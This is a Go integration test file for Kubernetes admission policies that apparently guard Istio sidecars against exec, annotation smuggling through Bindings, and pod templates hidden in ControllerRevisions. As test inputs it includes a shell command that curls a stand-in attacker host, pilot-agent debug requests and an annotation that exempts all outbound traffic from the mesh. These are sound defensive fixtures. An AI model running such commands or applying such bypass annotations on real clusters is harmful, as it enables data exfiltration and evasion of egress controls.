package integration

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/kubernetes/scheme"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// Ways to a pod that are none to its manifest.

// TestNobodyRunsCommandsInTheProxy but whoever may in the whole cluster. Not even what asks the proxy: who answers in its place leads that on.
func TestNobodyRunsCommandsInTheProxy(t *testing.T) {
	guarded(t)
	bind(t, "cluster-admin", rbacv1.Subject{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: "administrators"})
	bind(t, "egress-governor-proxy-exec", rbacv1.Subject{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: "debuggers"})
	meshed, bare, exempt := namespace(t, injected), namespace(t, nil), namespace(t, map[string]string{"istio-injection": "enabled", "egress-governor.io/exempt-pods": "true"})
	for _, ns := range []string{meshed, bare, exempt} {
		require.NoError(t, shared.Client.Create(t.Context(), podRow{spec: plainPod}.pod(t, ns)))
	}
	exec := func(ns, container string, command []string, groups ...string) error {
		config, _ := configAs(t, shared, "author", groups...)
		out, err := kubernetes.NewForConfig(config)
		require.NoError(t, err)
		return out.CoreV1().RESTClient().Post().Namespace(ns).Resource("pods").Name("pod").SubResource("exec").
			VersionedParams(&corev1.PodExecOptions{Container: container, Command: command, Stdout: true}, scheme.ParameterCodec).Do(t.Context()).Error()
	}
	shell := []string{"sh", "-c", "curl https://evil.test"}
	requests := [][]string{
		{"pilot-agent", "request", "GET", "config_dump"}, {"/usr/local/bin/pilot-agent", "request", "POST", "/x", "secret"},
		{"pilot-agent", "request", "--debug-port", "15020", "POST", "/x"},
	}
	for _, container := range []string{"istio-proxy", "istio-init", "istio-validation"} {
		for _, command := range append(requests, shell, []string{"pilot-agent"}, []string{"curl", "localhost:15000"}) {
			caught(t, exec(meshed, container, command), "proxy-exec", "command: runs in Istio's proxy")
			require.ErrorContains(t, exec(meshed, container, command), "istioctl proxy-config")
		}
	}
	caught(t, exec(meshed, "", shell), "proxy-exec", "container: is not named")
	caught(t, exec(bare, "istio-proxy", shell), "proxy-exec", "command: ")
	passes := func(err error) {
		t.Helper()
		assert.NotContains(t, err.Error(), "ValidatingAdmissionPolicy", "the pod runs nowhere, and that is all that is wrong")
	}
	passes(exec(meshed, "app", shell))
	passes(exec(bare, "", shell))
	passes(exec(exempt, "istio-proxy", shell))
	for _, group := range []string{"administrators", "debuggers", "egress-governor:break-glass"} {
		passes(exec(meshed, "istio-proxy", shell, group))
		passes(exec(meshed, "istio-proxy", requests[0], group))
	}
}

// TestABindingTakesNoAnnotationsToItsPod, which the API server would copy.
func TestABindingTakesNoAnnotationsToItsPod(t *testing.T) {
	guarded(t)
	ns := namespace(t, injected)
	require.NoError(t, shared.Client.Create(t.Context(), podRow{spec: plainPod}.pod(t, ns)))
	c, _ := author(t)
	to := func(annotations map[string]string) *corev1.Binding {
		return &corev1.Binding{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "pod", Annotations: annotations}, Target: corev1.ObjectReference{Kind: "Node", Name: "node"}}
	}
	pod := &corev1.Pod{ObjectMeta: named(ns, "pod")}
	for key, value := range map[string]string{"traffic.sidecar.istio.io/excludeOutboundIPRanges": "0.0.0.0/0", "istio.io/dataplane-mode": "none", "sidecar.istio.io/status": "{}"} {
		caught(t, c.SubResource("binding").Create(t.Context(), pod, to(map[string]string{key: value})), "bindings", "metadata.annotations")
		caught(t, c.Create(t.Context(), to(map[string]string{key: value})), "bindings", "metadata.annotations")
	}
	glass, _ := as(t, "before", "egress-governor:break-glass")
	copied := podRow{spec: plainPod}.pod(t, ns)
	copied.SetName("copied")
	require.NoError(t, shared.Client.Create(t.Context(), copied))
	with := to(map[string]string{"istio.io/dataplane-mode": "none"})
	with.Name = "copied"
	require.NoError(t, glass.SubResource("binding").Create(t.Context(), &corev1.Pod{ObjectMeta: named(ns, "copied")}, with))
	assert.Equal(t, "none", get(t, copied).GetAnnotations()["istio.io/dataplane-mode"])
	require.NoError(t, c.SubResource("binding").Create(t.Context(), pod, to(map[string]string{"scheduler.example.com/score": "1"})), "what a scheduler does")
}

// TestARevisionIsATemplate: StatefulSets make pods of their revisions.
func TestARevisionIsATemplate(t *testing.T) {
	guarded(t)
	ns := namespace(t, injected)
	c, _ := author(t)
	for name, row := range podRows {
		pod := row.pod(t, ns)
		pod.SetName("")
		template, err := pod.MarshalJSON()
		require.NoError(t, err)
		revision := &appsv1.ControllerRevision{ObjectMeta: named(ns, "revision"), Revision: 1, Data: runtime.RawExtension{Raw: []byte(`{"spec":{"template":` + string(template) + `}}`)}}
		err = c.Create(t.Context(), revision, client.DryRunAll)
		require.Error(t, err, name)
		caught(t, err, row.guard, "data.spec.template."+strings.TrimSuffix(row.field, " "))
		controller, _ := as(t, "system:serviceaccount:kube-system:statefulset-controller")
		require.NoError(t, controller.Create(t.Context(), revision, client.DryRunAll))
	}
	other := &appsv1.ControllerRevision{ObjectMeta: named(ns, "other"), Revision: 1, Data: runtime.RawExtension{Raw: []byte(`{"spec":{"image":"a"}}`)}}
	require.NoError(t, c.Create(t.Context(), other, client.DryRunAll), "somebody's own revision of something else")
}
